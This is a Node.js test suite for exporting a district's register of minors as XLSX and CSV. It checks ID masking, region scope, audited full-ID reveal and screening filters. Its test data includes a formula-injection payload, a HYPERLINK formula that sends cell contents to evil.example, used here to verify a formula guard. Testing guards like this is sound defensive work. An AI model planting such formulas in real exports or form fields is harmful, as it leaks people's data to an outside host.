// The register (台账) export end to end against the real server: XLSX and CSV downloads
// of a village, masked ID numbers, the formula guard, scope (out of scope answers like
// missing), full numbers only for a stated purpose and a role that may reveal (audited),
// and the fact_type filter with current facts only. Files are read with `unzip`, which
// needs no npm package; both shared strings and inline strings are understood.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { startServer, assertError, idNumber, sql, unitId, runStatus } from './harness.mjs';

const PW = 'export-pass-1';
const TOWNSHIP = '500242207'; // 木叶乡
const HEADER = ['序号', '乡镇(街道)', '村(社区)', '姓名', '性别', '公民身份号码', '出生日期', '年龄', '民族',
  '户籍地', '现居住地', '就读学校', '监护人姓名', '与儿童关系', '监护人联系电话', '家庭情况/重点情况', '备注'];
const MASKED = /^\d{6}\*{8}\d{3}[\dX]$/;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
const EVIL_ID = idNumber('20150505', '611');
let srv, county, station, director, village, other, n = 0;

// Minors (born after the cutoff) whose record the region owns, as the server counts them.
function minorsIn(code) {
  const hi = code.slice(0, -1) + String.fromCharCode(code.charCodeAt(code.length - 1) + 1);
  return Number(sql(srv.db, `select count(*) from persons where scope_region >= '${code}' and ` +
    `scope_region < '${hi}' and birth_date > date('now', '-18 years')`));
}

// Download with the client's session; returns { status, headers, bytes, json }.
async function download(c, method, path, body) {
  const headers = { Cookie: c.cookie };
  if (method === 'POST') {
    headers['X-CSRF-Token'] = c.csrf;
    headers['Content-Type'] = 'application/json';
  }
  const res = await fetch(srv.url + '/api/v1' + path,
    { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
  const bytes = Buffer.from(await res.arrayBuffer());
  let json = null;
  if ((res.headers.get('content-type') || '').startsWith('application/json')) json = JSON.parse(bytes.toString('utf8'));
  return { status: res.status, headers: res.headers, bytes, json, text: bytes.toString('utf8'), body: json };
}

function xmlText(s) {
  return s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'")
    .replace(/&#(\d+);/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&#x([0-9a-fA-F]+);/g, (_, h) => String.fromCodePoint(parseInt(h, 16))).replace(/&amp;/g, '&');
}

// The first worksheet as an array of rows of cell texts (column letters → index).
function readXlsx(bytes) {
  const file = join(srv.dir, `x${n++}.xlsx`);
  writeFileSync(file, bytes);
  execFileSync('unzip', ['-tq', file]); // a valid zip
  const sheet = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8', maxBuffer: 1 << 28 });
  let shared = [];
  try {
    const sst = execFileSync('unzip', ['-p', file, 'xl/sharedStrings.xml'], { encoding: 'utf8', maxBuffer: 1 << 28, stdio: ['ignore', 'pipe', 'ignore'] });
    shared = [...sst.matchAll(/<si>(.*?)<\/si>/gs)].map((m) => [...m[1].matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map((t) => xmlText(t[1])).join(''));
  } catch { /* constant-memory mode writes inline strings and no shared-string table */ }
  const rows = [];
  for (const rm of sheet.matchAll(/<row r="(\d+)"[^>]*>(.*?)<\/row>/gs)) {
    const row = [];
    for (const cm of rm[2].matchAll(/<c r="([A-Z]+)\d+"([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)) {
      const col = [...cm[1]].reduce((a, ch) => a * 26 + ch.charCodeAt(0) - 64, 0) - 1;
      const attrs = cm[2], inner = cm[3] || '';
      let v = '';
      if (/t="inlineStr"/.test(attrs)) v = [...inner.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map((t) => xmlText(t[1])).join('');
      else if (/t="s"/.test(attrs)) v = shared[Number(/<v>(\d+)<\/v>/.exec(inner)[1])];
      else { const m = /<v>(.*?)<\/v>/.exec(inner); v = m ? m[1] : ''; }
      row[col] = v;
    }
    rows[Number(rm[1]) - 1] = Array.from({ length: HEADER.length }, (_, i) => row[i] ?? '');
  }
  return rows;
}

// RFC 4180 reader (quoted fields with "" and line breaks), for checking the CSV.
function readCsv(text) {
  const rows = [];
  let row = [], f = '', q = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (q) {
      if (ch === '"' && text[i + 1] === '"') { f += '"'; i++; } else if (ch === '"') q = false; else f += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') { row.push(f); f = ''; } else if (ch === '\r' && text[i + 1] === '\n') { row.push(f); rows.push(row); row = []; f = ''; i++; } else f += ch;
  }
  if (f || row.length) { row.push(f); rows.push(row); }
  return rows;
}

before(async () => {
  srv = await startServer({ demo: { minors: 2000, seed: 7 } });
  // The village of 木叶乡 with the most minors, and a village of another township.
  village = sql(srv.db, `select substr(scope_region, 1, 12) from persons where scope_region like '${TOWNSHIP}%' ` +
    "and birth_date > date('now', '-18 years') group by 1 order by count(*) desc, 1 limit 1");
  other = sql(srv.db, "select code from regions where parent_code = '500242101000' order by code limit 1");
  await srv.addUser({ username: 'county1', role: 'county_office', region: '500242',
    unit: unitId(srv.db, 'minor_office', '500242'), password: PW });
  await srv.addUser({ username: 'mu1', role: 'township_station', region: TOWNSHIP,
    unit: unitId(srv.db, 'minor_station', TOWNSHIP), password: PW });
  await srv.addUser({ username: 'dir1', role: 'village_director', region: village,
    unit: unitId(srv.db, 'village_committee', village), password: PW });
  county = await srv.login('county1', PW);
  station = await srv.login('mu1', PW);
  director = await srv.login('dir1', PW);
  const r = await station.post('/persons', { name: EVIL, gender: 'M', id_number: EVIL_ID, household_region: village });
  assert.equal(r.status, 201, r.text);
});

after(async () => { await srv.stop(); });

test('XLSX of a village: title, header, one row per minor, IDs masked and stored as text', async () => {
  const r = await download(director, 'GET', `/registers/export?region=${village}&format=xlsx`);
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('content-type'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  assert.match(r.headers.get('content-disposition'), /^attachment; filename="register-\d{12}\.xlsx"; filename\*=UTF-8''%E9%85%89/);
  assert.equal(r.headers.get('cache-control'), 'no-store');
  const rows = readXlsx(r.bytes);
  assert.match(rows[0][0], /^酉阳土家族苗族自治县木叶乡.+ 未成年人台账 \(导出于 \d{4}-\d{2}-\d{2}\)$/);
  assert.deepEqual(rows[1], HEADER);
  const data = rows.slice(2);
  const expected = minorsIn(village);
  assert.ok(expected > 3, 'the village has children');
  assert.equal(data.length, expected);
  assert.equal(r.headers.get('x-weibao-rows'), String(expected));
  data.forEach((row, i) => {
    assert.equal(row[0], String(i + 1));
    assert.equal(row[1], '木叶乡');
    assert.ok(row[5] === '' || MASKED.test(row[5]), 'masked: ' + row[5]);
  });
  // The ID column is written as strings (t="inlineStr" or "s"), never as numbers.
  const file = join(srv.dir, `x${n - 1}.xlsx`);
  const sheet = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' });
  for (const m of sheet.matchAll(/<c r="F\d+"([^>]*)>/g)) assert.match(m[1], /t="(inlineStr|s)"/);
  assert.match(sheet, /<pane [^>]*ySplit="2"[^>]*state="frozen"/);
  assert.match(sheet, /<autoFilter ref="A2:Q\d+"/);
  // The formula text is a string cell with a leading apostrophe: inert in Excel and after "save as CSV".
  assert.ok(data.some((row) => row[3] === "'" + EVIL), 'guarded name in the XLSX');
  assert.ok(!sheet.includes('<f>'), 'no formula cells');
  // Names in filing order inside the village (the server sorts by code points).
  const names = data.map((row) => row[3].replace(/^'/, ''));
  for (let i = 1; i < names.length; i++) assert.ok(names[i - 1] <= names[i], `${names[i - 1]} before ${names[i]}`);
  assert.ok(!r.bytes.includes(Buffer.from(EVIL_ID)), 'no full ID number');
});

test('CSV of a village: BOM, RFC 4180 quoting, formula guard, same rows as the XLSX', async () => {
  const r = await download(station, 'GET', `/registers/export?region=${village}&format=csv`);
  assert.equal(r.status, 200, r.text);
  assert.equal(r.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.match(r.headers.get('content-disposition'), /filename="register-\d{12}\.csv"/);
  assert.deepEqual([...r.bytes.subarray(0, 3)], [0xEF, 0xBB, 0xBF]);
  const text = r.bytes.subarray(3).toString('utf8');
  assert.ok(text.endsWith('\r\n'));
  const rows = readCsv(text);
  assert.deepEqual(rows[0], HEADER);
  assert.equal(rows.length - 1, minorsIn(village));
  const evil = rows.find((row) => row[3].includes('HYPERLINK'));
  assert.equal(evil[3], "'" + EVIL, 'leading apostrophe, quotes doubled and unquoted back');
  // The raw line has the field quoted (it holds a comma and quotes) with the apostrophe inside.
  assert.ok(text.includes('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"'), 'raw quoting');
  for (const row of rows.slice(1)) {
    assert.equal(row.length, HEADER.length);
    assert.ok(row[5] === '' || MASKED.test(row[5]));
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), 'unguarded cell: ' + cell);
  }
  assert.ok(rows.slice(1).some((row) => row[12] && row[13]), 'guardians and their relation');
});

test('a region outside the scope answers 404 exactly like a missing region', async () => {
  const out = await download(director, 'GET', `/registers/export?region=${other}&format=csv`);
  assertError(out, 404, 'REGION_NOT_FOUND');
  const missing = await download(director, 'GET', '/registers/export?region=500242207299&format=csv');
  assert.equal(out.text, missing.text);
  // The township is above the director's village: also outside.
  assertError(await download(director, 'GET', `/registers/export?region=${TOWNSHIP}`), 404, 'REGION_NOT_FOUND');
  assertError(await download(director, 'GET', '/registers/export?format=csv'), 400, 'REGION_REQUIRED');
  assertError(await download(director, 'GET', `/registers/export?region=${village}&format=pdf`), 400, 'FORMAT_INVALID');
  assertError(await download(director, 'GET', `/registers/export?region=${village}&purpose=test1234`), 400, 'PURPOSE_IN_URL');
});

test('full ID numbers: POST with a purpose by a role that may reveal; audited with the purpose', async () => {
  const purpose = '年度台账核对（县未保办）';
  const r = await download(county, 'POST', '/registers/export', { region: village, format: 'csv', purpose });
  assert.equal(r.status, 200, r.text);
  const rows = readCsv(r.bytes.subarray(3).toString('utf8'));
  const evil = rows.find((row) => row[3].includes('HYPERLINK'));
  assert.equal(evil[5], EVIL_ID);
  assert.ok(rows.slice(1).every((row) => row[5] === '' || /^\d{17}[\dX]$/.test(row[5])));
  const entry = JSON.parse(sql(srv.db, "select json_object('u', username, 'd', json(detail)) from audit_log " +
    "where action = 'register.export' order by seq desc limit 1"));
  assert.equal(entry.u, 'county1');
  assert.equal(entry.d.region, village);
  assert.equal(entry.d.revealed, true);
  assert.equal(entry.d.purpose, purpose);
  assert.equal(entry.d.count, rows.length - 1);
  assert.equal(entry.d.filter.fact_type, null);
  // A masked export is audited too, without a purpose.
  await download(station, 'GET', `/registers/export?region=${village}&format=csv`);
  const masked = JSON.parse(sql(srv.db, "select detail from audit_log where action = 'register.export' order by seq desc limit 1"));
  assert.equal(masked.revealed, false);
  assert.equal(masked.purpose, undefined);
  // The chain still verifies.
  assert.equal(runStatus(['audit', 'verify', '--db', srv.db]).status, 0);
});

test('full ID numbers: a role without reveal rights gets 403, a missing or short purpose 422', async () => {
  const before = sql(srv.db, "select count(*) from audit_log where action = 'register.export'");
  const r = await download(director, 'POST', '/registers/export', { region: village, format: 'csv', purpose: '核对台账信息' });
  assertError(r, 403, 'FORBIDDEN');
  assertError(await download(county, 'POST', '/registers/export', { region: village, purpose: '核对' }), 422, 'PURPOSE_REQUIRED');
  assertError(await download(county, 'POST', '/registers/export', { region: village }), 422, 'PURPOSE_REQUIRED');
  assertError(await download(county, 'POST', '/registers/export', { region: village, purpose: '      ' }), 422, 'PURPOSE_REQUIRED');
  assertError(await download(county, 'POST', '/registers/export', { region: village, purpose: '\u3000\u3000核 \t对\u3000' }), 422, 'PURPOSE_REQUIRED');
  assertError(await download(county, 'POST', '/registers/export', { region: other, purpose: '核对台账信息', extra: 1 }), 422);
  // CSRF like every POST.
  const noCsrf = await fetch(srv.url + '/api/v1/registers/export', { method: 'POST',
    headers: { Cookie: county.cookie, 'Content-Type': 'application/json' }, body: JSON.stringify({ region: village, purpose: '核对台账信息' }) });
  assert.equal(noCsrf.status, 403);
  assert.equal(sql(srv.db, "select count(*) from audit_log where action = 'register.export'"), before, 'refusals export nothing');
});

test('fact_type filter: only children with a current fact of that type, their own or a parent\'s', async () => {
  // A family of our own: a father working away (current), a mother whose fact has expired.
  const mk = async (body) => {
    const r = await station.post('/persons', { household_region: village, ...body });
    assert.equal(r.status, 201, r.text);
    return r.body.id;
  };
  const father = await mk({ name: '田外出', gender: 'M', birth_date: '1988-02-02' });
  const mother = await mk({ name: '杨已归', gender: 'F', birth_date: '1990-03-03' });
  const kid = await mk({ name: '田留守', gender: 'F', birth_date: '2016-04-04',
    relations: [{ kind: 'father', person_id: father, is_guardian: true }] });
  const kid2 = await mk({ name: '田已团聚', gender: 'M', birth_date: '2017-05-05',
    relations: [{ kind: 'mother', person_id: mother, is_guardian: true }] });
  let r = await station.post(`/persons/${father}/facts`, { type: 'migrant_work', value: '浙江省宁波市', valid_from: '2024-03-01' });
  assert.equal(r.status, 201, r.text);
  r = await station.post(`/persons/${mother}/facts`, { type: 'migrant_work', value: '广东省', valid_from: '2019-01-01', valid_to: '2021-12-31' });
  assert.equal(r.status, 201, r.text);
  assert.ok(kid > 0 && kid2 > 0);

  const all = readCsv((await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&format=csv`)).bytes.subarray(3).toString('utf8')).slice(1);
  const f = await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&format=csv&fact_type=migrant_work`);
  assert.equal(f.status, 200, f.text);
  const rows = readCsv(f.bytes.subarray(3).toString('utf8')).slice(1);
  assert.ok(rows.length > 0 && rows.length < all.length, `${rows.length} of ${all.length}`);
  for (const row of rows) assert.match(row[15], /外出务工/);
  // Exactly the children whose situation names a current 外出务工.
  assert.equal(rows.length, all.filter((row) => /外出务工/.test(row[15])).length);
  const mine = rows.find((row) => row[3] === '田留守');
  assert.ok(mine, 'the child of the migrant father');
  assert.match(mine[15], /父亲外出务工：浙江省宁波市\(2024-03-01起\)/);
  assert.equal(mine[12], '田外出');
  assert.equal(mine[13], '父亲');
  assert.ok(!rows.some((row) => row[3] === '田已团聚'), 'an expired fact does not count');
  assert.ok(!all.find((row) => row[3] === '田已团聚')[15].includes('外出务工'));

  // XLSX title names the filter; unknown types are refused.
  const x = readXlsx((await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&fact_type=migrant_work`)).bytes);
  assert.match(x[0][0], /未成年人台账（外出务工）/);
  assert.equal(x.length - 2, rows.length);
  assertError(await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&fact_type=nope`), 422, 'FACT_TYPE_UNKNOWN');
  const audit = JSON.parse(sql(srv.db, "select detail from audit_log where action = 'register.export' order by seq desc limit 1"));
  assert.equal(audit.filter.fact_type, 'migrant_work');
});

test('sensitive fact types: filtering needs SENSITIVE_READ; the admin sees no sensitive facts', async () => {
  const admin = await srv.login(srv.admin.username, srv.admin.password);
  assertError(await download(admin, 'GET', `/registers/export?region=${TOWNSHIP}&fact_type=imprisoned`), 403, 'FORBIDDEN');
  const r = await download(county, 'GET', `/registers/export?region=500242&format=csv&fact_type=imprisoned`);
  assert.equal(r.status, 200, r.text);
  const rows = readCsv(r.bytes.subarray(3).toString('utf8')).slice(1);
  for (const row of rows) assert.match(row[15], /服刑在押/);
  const a = await download(admin, 'GET', '/registers/export?region=500242&format=csv');
  assert.equal(a.status, 200);
  assert.ok(!a.text.includes('服刑在押'), 'sensitive facts hidden from the admin');
  assert.ok(!a.text.includes('心理健康筛查'));
});

// The screening register (筛查台账) as shown on its page: a category of the rules in force,
// or every flagged child, at a level or above; the file titled with the category.
test('screening register export: by category, by level, every flagged child', async () => {
  let reg;
  for (let i = 0; i < 100; i++) { // the first screen runs as the server starts
    reg = await station.get(`/screening/registers?region=${TOWNSHIP}&category=left_behind`);
    if (reg.status === 200 && reg.body.total > 0) break;
    await new Promise((res) => setTimeout(res, 100));
  }
  assert.ok(reg.body.total > 0, reg.text);
  const minorsOf = (where) => Number(sql(srv.db, `select count(*) from persons p where p.scope_region like '${TOWNSHIP}%'
    and p.birth_date > date('now', '-18 years') and ${where}`));
  const r = await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&format=csv&category=left_behind&flagged=1`);
  assert.equal(r.status, 200, r.text);
  const members = minorsOf(`exists (select 1 from screen_memberships m where m.person_id = p.id
    and m.category = 'left_behind' and m.status <> 'rejected')`);
  assert.equal(r.headers.get('x-weibao-rows'), String(members));
  assert.ok(members > 0 && members < minorsOf('1'));
  assert.match(decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(r.headers.get('content-disposition'))[1]),
    /未成年人台账（[^）]*留守[^）]*）_/, 'the file is named after the category');
  const red = await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&format=csv&flagged=1&min_level=3`);
  assert.equal(red.status, 200, red.text);
  const high = minorsOf(`exists (select 1 from screen_results r where r.person_id = p.id and r.level >= 3
    and not exists (select 1 from screen_overrides o where o.person_id = p.id and o.revoked_at is null))`);
  assert.equal(red.headers.get('x-weibao-rows'), String(high));
  assertError(await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&category=nosuch`), 422, 'CATEGORY_UNKNOWN');
  assertError(await download(station, 'GET', `/registers/export?region=${TOWNSHIP}&min_level=9`), 422, 'LEVEL_INVALID');
  const full = await download(county, 'POST', '/registers/export',
    { region: TOWNSHIP, format: 'csv', category: 'left_behind', flagged: true, purpose: '留守儿童核对' });
  assert.equal(full.status, 200, full.text);
  assert.equal(full.headers.get('x-weibao-rows'), String(members));
});

test('CLI: weibao export writes the file, masked by default, full numbers only as a user with a purpose', async () => {
  const out = join(srv.dir, 'cli.csv');
  const r = runStatus(['export', '--db', srv.db, '--region', village, '--format', 'csv', '--out', out]);
  assert.equal(r.status, 0, r.stderr);
  const expected = minorsIn(village);
  assert.match(r.stdout, new RegExp(`^weibao: ${expected} minors of .+ exported to ${out}`));
  const rows = readCsv(readFileSync(out).subarray(3).toString('utf8'));
  assert.equal(rows.length - 1, expected);
  assert.ok(rows.slice(1).every((row) => row[5] === '' || MASKED.test(row[5])));

  const bad = runStatus(['export', '--db', srv.db, '--region', village, '--purpose', '核对台账信息']);
  assert.equal(bad.status, 2);
  const denied = runStatus(['export', '--db', srv.db, '--region', village, '--user', 'dir1', '--purpose', '核对台账信息', '--out', out]);
  assert.equal(denied.status, 1);
  assert.match(denied.stderr, /FORBIDDEN/);
  const gone = runStatus(['export', '--db', srv.db, '--region', other, '--user', 'mu1', '--out', out]);
  assert.match(gone.stderr, /REGION_NOT_FOUND/);

  const xl = join(srv.dir, 'cli.xlsx');
  const ok = runStatus(['export', '--db', srv.db, '--region', village, '--user', 'county1', '--purpose', '县级台账年度核对', '--out', xl]);
  assert.equal(ok.status, 0, ok.stderr);
  const x = readXlsx(readFileSync(xl));
  assert.ok(x.slice(2).some((row) => row[5] === EVIL_ID));
  const entry = JSON.parse(sql(srv.db, "select json_object('u', username, 'ip', ip, 'd', json(detail)) from audit_log " +
    "where action = 'register.export' order by seq desc limit 1"));
  assert.equal(entry.u, 'county1');
  assert.equal(entry.ip, 'local');
  assert.equal(entry.d.purpose, '县级台账年度核对');
});
